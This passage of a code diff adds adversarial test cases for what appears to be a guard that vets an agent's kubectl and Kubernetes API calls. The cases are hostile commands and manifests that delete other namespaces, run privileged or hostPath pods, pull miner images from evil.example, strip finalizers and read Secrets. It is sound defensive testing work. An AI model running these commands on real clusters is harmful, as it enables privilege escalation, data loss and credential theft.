@@ -714,6 +714,1025 @@ for change in [
             },
         )
 
+# === Round 2: semantics an attacker who knows kubectl, the API server, YAML and JSON patch would try ===============
+# Each variant names the rule it probes; none repeats a variant above.
+
+# --- scope escapes through kubectl's global flags: identity, transport, and which namespace wins ------------------
+for flag in [
+    "--as-uid=0",
+    "--insecure-skip-tls-verify",
+    "--request-timeout=1s",
+    "--certificate-authority={tmp}/ca.crt",
+    "--client-certificate={tmp}/c.crt --client-key={tmp}/c.key",
+    "--username=admin --password=admin",
+    "--tls-server-name=kubernetes",
+    "--as=false",  # a value that reads as a boolean "off"
+    "--kubeconfig=0",
+    "--context=",
+]:
+    line("scope_escape", f"kubectl delete configmap conf -n {{victim}} {flag}")
+for text in [
+    "kubectl scale deploy web --replicas=0 -n {ns} -n {victim}",  # the last -n wins, as in pflag
+    "kubectl scale deploy web --replicas=0 --namespace={ns} -n{victim}",
+    "kubectl -n {victim} scale deploy web --replicas=0",  # a global flag before the sub-command
+    "kubectl --namespace={victim} delete cm conf",
+    "kubectl delete cm conf -n={victim}",
+    "kubectl scale deploy web --replicas=0 -n {victim} -- -n {ns}",  # words after -- are not flags
+    "kubectl delete -n {ns} cm conf --namespace {victim}",
+    "kubectl delete cm/conf deploy/web -n {victim}",
+    "kubectl label cm conf x=y --overwrite -n {victim}",
+    "kubectl annotate deploy web kubernetes.io/change-cause=x --overwrite -n {victim}",
+    "kubectl delete cm --field-selector=metadata.name=conf -n {victim}",
+    "kubectl delete cm conf -n {victim} --grace-period=0 --force",
+    "kubectl delete cm conf -n {victim} --dry-run=client",
+    "kubectl apply -k {tmp} -n {ns}",
+    "kubectl apply --prune -l app=web -f {tmp}/victim-cm.yaml -n {ns}",
+    "kubectl apply --server-side --force-conflicts -f {tmp}/victim-cm.yaml",
+    "kubectl replace --force -f {tmp}/victim-cm.yaml",
+    'kubectl patch deploy web -n {victim} --subresource=status -p \'{"status":{"replicas":0}}\'',
+    "kubectl set resources deploy web --limits=cpu=1m -n {victim}",
+    "kubectl set serviceaccount deploy web admin -n {ns}",
+    "kubectl set subject clusterrolebinding view --serviceaccount={ns}:default",
+    "kubectl expose deploy web --type=NodePort --port=80 --name=web-np -n {ns}",
+    'kubectl run pwn --image=busybox --overrides=\'{"spec":{"hostPID":true}}\' -n {ns}',
+    "kubectl autoscale deploy web --min=0 --max=0 -n {victim}",
+    "kubectl create token default -n {ns}",
+    "kubectl rollout undo deploy/web --to-revision=1 -n {victim}",
+]:
+    line("scope_escape", text)
+# A manifest file whose objects name another scope: a second YAML document, a merge key, a List in a List.
+SAME_CONF = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: conf\ndata:\n  k: v\n"
+line(
+    "scope_escape",
+    "kubectl apply -f {tmp}/multi.yaml",
+    files={
+        "multi.yaml": SAME_CONF
+        + "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: conf\n  namespace: {victim}\ndata:\n  k: pwned\n"
+    },
+)
+line(
+    "scope_escape",
+    "kubectl apply -f {tmp}/mergekey.yaml",
+    files={
+        "mergekey.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: conf\n  <<: {namespace: {victim}}\ndata:\n  k: pwned\n"  # noqa: E501
+    },
+)
+line(
+    "scope_escape",
+    "kubectl apply -f {tmp}/nested-list.yaml",
+    files={
+        "nested-list.yaml": "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: List\n  items:\n  - apiVersion: v1\n    kind: ConfigMap\n    metadata: {name: conf, namespace: {victim}}\n    data: {k: pwned}\n"  # noqa: E501
+    },
+)
+line(
+    "scope_escape",
+    "kubectl apply -f {tmp}/typed-list.yaml",
+    files={
+        "typed-list.yaml": "apiVersion: v1\nkind: ConfigMapList\nitems:\n- apiVersion: v1\n  kind: ConfigMap\n  metadata: {name: conf, namespace: {victim}}\n  data: {k: pwned}\n"  # noqa: E501
+    },
+)
+line(
+    "scope_escape",
+    "kubectl apply -f {tmp}/dupkey.yaml",
+    files={
+        "dupkey.yaml": '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"conf","namespace":"{ns}","namespace":"{victim}"},"data":{"k":"pwned"}}'  # noqa: E501
+    },
+)
+# Patches that rewrite the object's own identity: the request path names one object, the body another.
+for patch_type, body in [
+    ("json", [{"op": "replace", "path": "/metadata/namespace", "value": "{victim}"}]),
+    ("json", [{"op": "replace", "path": "/metadata/name", "value": "conf-moved"}]),
+    ("json", [{"op": "copy", "from": "/metadata/name", "path": "/metadata/namespace"}]),
+    ("merge", {"metadata": {"namespace": "{victim}"}}),
+    ("strategic", {"metadata": {"name": "other", "namespace": "{victim}"}}),
+    ("merge", {"kind": "Secret", "apiVersion": "v1"}),
+]:
+    tool(
+        "scope_escape",
+        {
+            "verb": "patch",
+            "kind": "ConfigMap",
+            "namespace": "{ns}",
+            "name": "conf",
+            "patch_type": patch_type,
+            "patch": body,
+        },
+    )
+for call in [
+    {"verb": "delete", "kind": "Node", "namespace": "{ns}", "name": "{node}"},
+    {
+        "verb": "patch",
+        "kind": "Namespace",
+        "namespace": "{ns}",
+        "name": "{victim}",
+        "patch": {"metadata": {"labels": {"x": "y"}}},
+    },
+    {
+        "verb": "apply",
+        "namespace": "{victim}",
+        "manifest": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "conf"}, "data": {"k": "pwned"}},
+    },
+    {
+        "verb": "apply",
+        "namespace": "{ns}",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"name": "conf", "namespace": ""},
+            "data": {"k": "v"},
+        },
+        "name": "conf",
+    },
+    {
+        "verb": "replace",
+        "manifest": {
+            "apiVersion": "apps/v1",
+            "kind": "deployment",
+            "metadata": {"name": "web", "namespace": "{victim}"},
+            "spec": {},
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"generateName": "conf-", "namespace": "{victim}"},
+        },
+    },
+    {"verb": "apply", "manifest": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": ["conf", "{victim}"]}},
+    {"verb": "apply", "manifest": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": "conf"}},
+    {
+        "verb": "apply",
+        "manifest": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "conf", "namespace": ["{victim}"]}},
+    },
+    {"verb": "scale", "kind": "deployments.apps", "namespace": "{victim}", "name": "web", "replicas": 0},
+    {"verb": "delete", "kind": "clusterroles.rbac.authorization.k8s.io", "name": "admin"},
+]:
+    tool("scope_escape", call)
+
+# --- cluster-scoped and control-plane objects under a namespace lease ------------------------------------------
+for text in [
+    "kubectl delete priorityclass system-cluster-critical",
+    "kubectl delete runtimeclass runc",
+    "kubectl delete lease {node} -n kube-node-lease",
+    "kubectl delete validatingadmissionpolicy all",
+    "kubectl delete csr csr-1",
+    "kubectl certificate deny csr-1",
+    "kubectl delete clusterrolebinding cluster-admin",
+    "kubectl delete rolebindings.rbac.authorization.k8s.io x -n {ns}",
+    "kubectl delete cm kube-root-ca.crt -n {victim}",
+    'kubectl patch ns {victim} --type=merge -p \'{"spec":{"finalizers":[]}}\'',
+    "kubectl delete namespaces.v1. {victim}",
+    "kubectl delete NS {victim}",
+    'kubectl delete "n"s {victim}',
+    "kubectl delete n\\s {victim}",
+    "kubectl\tdelete\tns\t{victim}",
+    "kubectl delete storageclasses.storage.k8s.io standard",
+    "kubectl delete persistentvolumes.v1 pv-data",
+]:
+    line("cluster_scoped", text)
+for call in [
+    {
+        "verb": "apply",
+        "manifest": {
+            "apiVersion": "scheduling.k8s.io/v1",
+            "kind": "PriorityClass",
+            "metadata": {"name": "top"},
+            "value": 1000000000,
+            "globalDefault": True,
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "coordination.k8s.io/v1",
+            "kind": "Lease",
+            "metadata": {"name": "{node}", "namespace": "kube-node-lease"},
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "PersistentVolume",
+        "name": "pv-data",
+        "patch": {"spec": {"claimRef": {"namespace": "{ns}", "name": "data"}}},
+    },
+    {"verb": "patch", "kind": "StorageClass", "name": "standard", "patch": {"reclaimPolicy": "Delete"}},
+    {
+        "verb": "apply",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "Namespace",
+            "metadata": {"name": "{victim}"},
+            "spec": {"finalizers": []},
+        },
+    },
+    {"verb": "replace", "manifest": {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "{ns}"}}},
+    {"verb": "create", "manifest": {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "evil-node"}}},
+]:
+    tool("cluster_scoped", call)
+
+# --- privilege escalation the pod security standards name, beyond the fields above ---------------------------------
+ESCALATIONS_2 = {
+    "sysctl_unsafe": {"securityContext": {"sysctls": [{"name": "kernel.core_pattern", "value": "|/tmp/x"}]}},
+    "sysctl_net": {"securityContext": {"sysctls": [{"name": "net.ipv4.ip_forward", "value": "1"}]}},
+    "host_process": {"securityContext": {"windowsOptions": {"hostProcess": True}}},
+    "selinux_type": {"securityContext": {"seLinuxOptions": {"type": "spc_t"}}},
+    "selinux_user": {"securityContext": {"seLinuxOptions": {"user": "system_u", "role": "system_r"}}},
+    "seccomp_pod_unconfined": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}},
+    "git_repo_volume": {"volumes": [{"name": "g", "gitRepo": {"repository": "https://evil.example/x.git"}}]},
+    "nfs_volume": {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]},
+    "iscsi_volume": {"volumes": [{"name": "i", "iscsi": {"targetPortal": "10.0.0.1:3260", "iqn": "iqn.x", "lun": 0}}]},
+    "flex_volume": {"volumes": [{"name": "f", "flexVolume": {"driver": "evil/driver"}}]},
+    "deprecated_service_account": {"serviceAccount": "admin"},
+    "host_port": {
+        "containers": [{"name": "app", "image": "nginx:1.25", "ports": [{"containerPort": 80, "hostPort": 80}]}]
+    },
+    "cap_lowercase": {
+        "containers": [
+            {"name": "app", "image": "nginx:1.25", "securityContext": {"capabilities": {"add": ["sys_admin"]}}}
+        ]
+    },
+    "cap_all": {
+        "containers": [{"name": "app", "image": "nginx:1.25", "securityContext": {"capabilities": {"add": ["ALL"]}}}]
+    },
+    "proc_unmasked": {
+        "containers": [{"name": "app", "image": "nginx:1.25", "securityContext": {"procMount": "Unmasked"}}]
+    },
+    "apparmor_field": {
+        "containers": [
+            {"name": "app", "image": "nginx:1.25", "securityContext": {"appArmorProfile": {"type": "Unconfined"}}}
+        ]
+    },
+    "init_privileged": {
+        "initContainers": [{"name": "init", "image": "nginx:1.25", "securityContext": {"privileged": True}}]
+    },
+    "ld_audit_env": {
+        "containers": [{"name": "app", "image": "nginx:1.25", "env": [{"name": "LD_AUDIT", "value": "/tmp/x.so"}]}]
+    },
+    "registry_port": {"containers": [{"name": "app", "image": "docker.io:443/evil/miner:1"}]},
+    "registry_lookalike": {"containers": [{"name": "app", "image": "docker.io.evil.example/library/nginx:1.25"}]},
+    "registry_localhost": {"containers": [{"name": "app", "image": "localhost:5000/miner"}]},
+    "registry_ip": {"containers": [{"name": "app", "image": "10.0.0.1/miner:1"}]},
+}
+for pod_spec in ESCALATIONS_2.values():
+    patch = {"spec": {"template": {"spec": pod_spec}}}
+    tool(
+        "privilege_escalation",
+        {"verb": "patch", "kind": "Deployment", "namespace": "{ns}", "name": "web", "patch": patch},
+        requires="write_policy",
+    )
+# The same features through other write forms: a JSON patch, a merge patch, an annotation, a new workload.
+for call in [
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/spec/template/spec/hostNetwork", "value": True}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [
+            {"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}
+        ],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [
+            {"op": "copy", "from": "/spec/template/spec/containers/0", "path": "/spec/template/spec/initContainers"}
+        ],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/spec/template/spec/serviceAccountName", "value": "admin"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [
+            {"op": "add", "path": "/spec/template/spec/volumes", "value": [{"name": "r", "hostPath": {"path": "/"}}]}
+        ],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "merge",
+        "patch": {"spec": {"template": {"spec": {"hostIPC": True}}}},
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {
+            "spec": {
+                "template": {
+                    "metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/app": "unconfined"}}
+                }
+            }
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {
+            "spec": {
+                "template": {"metadata": {"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}}}
+            }
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"spec": {"template": {"spec": {"priorityClassName": "system-node-critical"}}}},
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {
+            "spec": {
+                "template": {
+                    "spec": {
+                        "$setElementOrder/containers": [{"name": "app"}],
+                        "containers": [{"name": "app", "securityContext": {"privileged": True}}],
+                    }
+                }
+            }
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {
+            "spec": {
+                "template": {
+                    "spec": {"containers": [{"$patch": "replace", "name": "app", "image": "evil.example/miner:1"}]}
+                }
+            }
+        },
+    },
+    {
+        "verb": "set_image",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "images": {"*": "ghcr.io/evil/miner:1"},
+    },
+    {"verb": "set_env", "kind": "Deployment", "namespace": "{ns}", "name": "web", "env": {"LD_LIBRARY_PATH": "/tmp"}},
+    {
+        "verb": "patch",
+        "kind": "Service",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"spec": {"type": "ExternalName", "externalName": "kubernetes.default.svc.cluster.local"}},
+    },
+    {
+        "verb": "patch",
+        "kind": "Service",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/spec/externalIPs", "value": ["10.0.0.1"]}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Service",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"status": {"loadBalancer": {"ingress": [{"ip": "10.0.0.1"}]}}},
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "Service",
+            "metadata": {"name": "web-ext", "namespace": "{ns}"},
+            "spec": {"type": "ExternalName", "externalName": "evil.example"},
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "Endpoints",
+            "metadata": {"name": "web-ext", "namespace": "{ns}"},
+            "subsets": [{"addresses": [{"ip": "10.0.0.1"}], "ports": [{"port": 443}]}],
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "networking.k8s.io/v1",
+            "kind": "Ingress",
+            "metadata": {
+                "name": "x",
+                "namespace": "{ns}",
+                "annotations": {
+                    "nginx.ingress.kubernetes.io/server-snippet": "location / { proxy_pass http://10.0.0.1; }"
+                },
+            },
+            "spec": {"defaultBackend": {"service": {"name": "web", "port": {"number": 80}}}},
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "batch/v1",
+            "kind": "Job",
+            "metadata": {"name": "pwn", "namespace": "{ns}"},
+            "spec": {
+                "template": {
+                    "spec": {
+                        "restartPolicy": "Never",
+                        "hostPID": True,
+                        "containers": [{"name": "x", "image": "nginx:1.25"}],
+                    }
+                }
+            },
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "batch/v1",
+            "kind": "CronJob",
+            "metadata": {"name": "pwn", "namespace": "{ns}"},
+            "spec": {
+                "schedule": "* * * * *",
+                "jobTemplate": {
+                    "spec": {
+                        "template": {
+                            "spec": {
+                                "restartPolicy": "Never",
+                                "volumes": [{"name": "r", "hostPath": {"path": "/"}}],
+                                "containers": [{"name": "x", "image": "nginx:1.25"}],
+                            }
+                        }
+                    }
+                },
+            },
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "apps/v1",
+            "kind": "DaemonSet",
+            "metadata": {"name": "pwn", "namespace": "{ns}"},
+            "spec": {
+                "selector": {"matchLabels": {"a": "b"}},
+                "template": {
+                    "metadata": {"labels": {"a": "b"}},
+                    "spec": {"hostNetwork": True, "containers": [{"name": "x", "image": "nginx:1.25"}]},
+                },
+            },
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "batch/v1",
+            "kind": "Job",
+            "metadata": {"name": "wide", "namespace": "{ns}"},
+            "spec": {
+                "parallelism": 100000,
+                "completions": 100000,
+                "template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "x", "image": "nginx:1.25"}]}},
+            },
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "Pod",
+            "metadata": {"name": "dbg", "namespace": "{ns}"},
+            "spec": {
+                "ephemeralContainers": [{"name": "d", "image": "busybox", "targetContainerName": "app"}],
+                "containers": [{"name": "app", "image": "nginx:1.25"}],
+            },
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "Pod",
+        "namespace": "{ns}",
+        "name": "{pod}",
+        "patch": {
+            "spec": {
+                "ephemeralContainers": [{"name": "d", "image": "busybox", "securityContext": {"privileged": True}}]
+            }
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "rbac.authorization.k8s.io/v1",
+            "kind": "Role",
+            "metadata": {"name": "pwn", "namespace": "{ns}"},
+            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "admin", "namespace": "{ns}"}},
+    },
+    {"verb": "scale", "kind": "Deployment", "namespace": "{ns}", "name": "web", "replicas": 11},
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "replace", "path": "/spec/replicas", "value": 2147483647}],
+    },
+    {"verb": "patch", "kind": "Deployment", "namespace": "{ns}", "name": "web", "patch": {"spec": {"replicas": "50"}}},
+]:
+    tool("privilege_escalation", call, requires="write_policy")
+line("privilege_escalation", "kubectl set env deploy/web -e LD_PRELOAD=/tmp/x.so -n {ns}", requires="write_policy")
+line("privilege_escalation", "kubectl set image deploy/web '*=evil.example/miner:1' -n {ns}", requires="write_policy")
+line("privilege_escalation", "kubectl scale deploy web --replicas=011 -n {ns}", requires="write_policy")
+line("privilege_escalation", "kubectl scale deploy web --replicas=1e6 -n {ns}", requires="write_policy")
+line(
+    "privilege_escalation",
+    "kubectl apply -f {tmp}/sts.yaml -n {ns}",
+    files={
+        "sts.yaml": "apiVersion: apps/v1\nkind: StatefulSet\nmetadata: {name: pwn}\nspec:\n  serviceName: pwn\n  replicas: 1\n  selector: {matchLabels: {a: b}}\n  template:\n    metadata: {labels: {a: b}}\n    spec:\n      hostPID: true\n      containers: [{name: x, image: 'nginx:1.25'}]\n"  # noqa: E501
+    },
+    requires="write_policy",
+)
+
+# --- data destruction through patch semantics -----------------------------------------------------------------
+for call in [
+    {
+        "verb": "patch",
+        "kind": "PersistentVolumeClaim",
+        "namespace": "{ns}",
+        "name": "data",
+        "patch_type": "json",
+        "patch": [{"op": "remove", "path": "/metadata/finalizers/0"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "PersistentVolumeClaim",
+        "namespace": "{ns}",
+        "name": "data",
+        "patch_type": "json",
+        "patch": [{"op": "replace", "path": "/metadata/finalizers", "value": []}],
+    },
+    {
+        "verb": "patch",
+        "kind": "PersistentVolumeClaim",
+        "namespace": "{ns}",
+        "name": "data",
+        "patch": {"metadata": {"$deleteFromPrimitiveList/finalizers": ["kubernetes.io/pvc-protection"]}},
+    },
+    {
+        "verb": "patch",
+        "kind": "PersistentVolumeClaim",
+        "namespace": "{ns}",
+        "name": "data",
+        "patch": {"metadata": {"$patch": "replace", "name": "data"}},
+    },
+    {
+        "verb": "patch",
+        "kind": "PersistentVolumeClaim",
+        "namespace": "{ns}",
+        "name": "data",
+        "patch": {"metadata": {"$retainKeys": ["name"], "name": "data"}},
+    },
+    {
+        "verb": "patch",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "name": "conf",
+        "patch_type": "json",
+        "patch": [
+            {
+                "op": "add",
+                "path": "/metadata/ownerReferences",
+                "value": [
+                    {"apiVersion": "v1", "kind": "Pod", "name": "{pod}", "uid": "00000000-0000-0000-0000-000000000000"}
+                ],
+            }
+        ],
+    },
+    {
+        "verb": "patch",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "name": "conf",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/metadata/finalizers/-", "value": "example.com/never"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "move", "from": "/spec/replicas", "path": "/metadata/annotations~1x"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [
+            {"op": "test", "path": "/spec/replicas", "value": 2},
+            {"op": "replace", "path": "/spec/replicas", "value": 0},
+        ],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "json",
+        "patch": [{"op": "remove", "path": "/spec/template/spec/containers/0"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch_type": "merge",
+        "patch": {"spec": {"template": {"spec": {"containers": None}}}},
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"spec": {"template": {"spec": {"containers": [{"name": "app", "$patch": "delete"}]}}}},
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {
+            "spec": {
+                "strategy": {"type": "Recreate", "rollingUpdate": None},
+                "template": {"metadata": {"labels": {"x": "y"}}},
+            }
+        },
+    },
+    {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"spec": {"paused": True, "replicas": 0}},
+    },
+    {
+        "verb": "replace",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "PersistentVolumeClaim",
+            "metadata": {"name": "data", "namespace": "{ns}"},
+            "spec": {
+                "accessModes": ["ReadWriteOnce"],
+                "storageClassName": "hostile-unbound",
+                "resources": {"requests": {"storage": "1Gi"}},
+            },
+        },
+    },
+    {
+        "verb": "apply",
+        "manifest": {
+            "apiVersion": "apps/v1",
+            "kind": "Deployment",
+            "metadata": {"name": "web", "namespace": "{ns}"},
+            "spec": {"replicas": 0},
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "v1",
+            "kind": "ResourceQuota",
+            "metadata": {"name": "starve", "namespace": "{victim}"},
+            "spec": {"hard": {"pods": "0"}},
+        },
+    },
+    {
+        "verb": "create",
+        "manifest": {
+            "apiVersion": "policy/v1",
+            "kind": "PodDisruptionBudget",
+            "metadata": {"name": "pin", "namespace": "{ns}"},
+            "spec": {"maxUnavailable": 0, "selector": {}},
+        },
+    },
+]:
+    tool("data_destruction", call, requires="write_policy")
+for text in [
+    "kubectl delete deploy web -n {ns} --cascade=orphan",
+    "kubectl delete pvc data -n {ns} --wait=false",
+    "kubectl delete pvc/data -n {ns}",
+    "kubectl delete persistentvolumeclaims.v1 data -n {ns}",
+    "kubectl drain {node} --delete-emptydir-data --force",
+    'kubectl patch pvc data -n {ns} --type=merge -p \'{"metadata":{"finalizers":[]}}\'',
+    'kubectl patch deploy web -n {ns} --type=json -p \'[{"op":"replace","path":"/spec/replicas","value":0}]\' --dry-run=server',  # noqa: E501
+]:
+    line("data_destruction", text, requires="write_policy" if "pvc" in text else None)
+
+# --- Secret reads: other ways a value could come back ----------------------------------------------------------
+for face in ("read", "write"):
+    for text in [
+        "kubectl get --raw /api/v1/namespaces/{ns}/secrets/creds",
+        "kubectl get secret creds -n {ns} -o custom-columns=P:.data.password",
+        "kubectl get secret creds -n {ns} -o template --template={{.data.password}}",
+        "kubectl get secret creds -n {ns} -o=jsonpath='{.data}'",
+        "kubectl get secrets -n {ns} -o name",
+        "kubectl get secrets,configmaps -n {ns} -o yaml",
+        "kubectl get all,secrets -n {ns} -o json",
+        "kubectl describe secrets -n {ns}",
+        "kubectl describe secret -l app -n {ns}",
+        "kubectl get secret creds -n {ns} -o yaml --show-managed-fields",
+        "kubectl get secrets.v1. creds -n {ns} -o json",
+        "kubectl get SECRET creds -n {ns} -o yaml",
+        "kubectl get secret/creds configmap/conf -n {ns} -o yaml",
+        "kubectl get secret creds -n {victim} -o json",
+        "kubectl describe secret/creds -n {ns}",
+    ]:
+        line("secret_reads", text, face=face, requires="secret_redaction")
+for call in [
+    {"verb": "get", "kind": "secrets", "namespace": "{ns}", "name": "creds", "output": "json"},
+    {"verb": "list", "kind": "Secret", "all_namespaces": True, "output": "yaml"},
+    {"verb": "describe", "kind": "secret", "namespace": "{ns}"},
+    {"verb": "get", "kind": "Secret", "namespace": "{ns}", "name": "creds", "output": "name"},
+]:
+    tool("secret_reads", call, requires="secret_redaction")
+
+# --- YAML and JSON that are not what they look like ------------------------------------------------------------
+for name, text in {
+    "python-tag.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\ndata: !!python/object/apply:os.system ['true']\n",  # noqa: E501
+    "binary.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\ndata: {k: !!binary aGVsbG8=}\n",
+    "set.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\ndata: !!set {a, b}\n",
+    "timestamp.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: creds}\nstringData: {k: 2001-12-14t21:59:43.10-05:00}\n",  # noqa: E501
+    "nan.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: .nan}\n",
+    "inf.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: .inf}\n",
+    "bigint.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: 99999999999999999999999999}\n",  # noqa: E501
+    "float-replicas.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: 0.0}\n",
+    "bool-key.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\ndata: {yes: no, 1: 2}\n",
+    "complex-key.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\n? [a, b]\n: c\n",
+    "crlf.yaml": "apiVersion: v1\r\nkind: ConfigMap\r\nmetadata:\r\n  name: conf\r\n  namespace: {victim}\r\ndata: {k: pwned}\r\n",  # noqa: E501
+    "bom.yaml": "\ufeffapiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf, namespace: {victim}}\n",
+    "tabs.json": '{\t"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"conf","namespace":"{victim}"}}',
+    "deep-list.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: conf}\ndata: {k: "
+    + "[" * 70
+    + "]" * 70
+    + "}\n",
+    "many-docs.yaml": "---\n" * 30000,
+}.items():
+    line("oversized_recursive", f"kubectl apply -f {{tmp}}/{name} -n {{ns}}", files={name: text})
+for call in [
+    {"verb": "patch", "kind": "ConfigMap", "namespace": "{ns}", "name": "conf", "patch": {"data": {"k": float("nan")}}},
+    {"verb": "patch", "kind": "ConfigMap", "namespace": "{ns}", "name": "conf", "patch": {"data": {"k": 10**400}}},
+    {
+        "verb": "patch",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "name": "conf",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/data/" + "~1" * 3000, "value": "x"}],
+    },
+    {
+        "verb": "patch",
+        "kind": "ConfigMap",
+        "namespace": "{ns}",
+        "name": "conf",
+        "patch_type": "json",
+        "patch": [{"op": "add", "path": "/data/k", "value": "x"}] * 5000,
+    },
+    {"verb": "scale", "kind": "Deployment", "namespace": "{ns}", "name": "web", "replicas": True},
+    {"verb": "scale", "kind": "Deployment", "namespace": "{ns}", "name": "web", "replicas": "0x0"},
+    {"verb": "delete", "kind": "ConfigMap", "namespace": "{ns}", "name": "c" * 254},
+]:
+    tool("oversized_recursive", call)
+
+# --- path and unicode tricks not above: control characters, look-alike flags, encoded separators ------------------
+for text in [
+    "kubectl delete cm conf\r\n -n {victim}",
+    'kubectl delete cm "conf\r" -n {ns}',
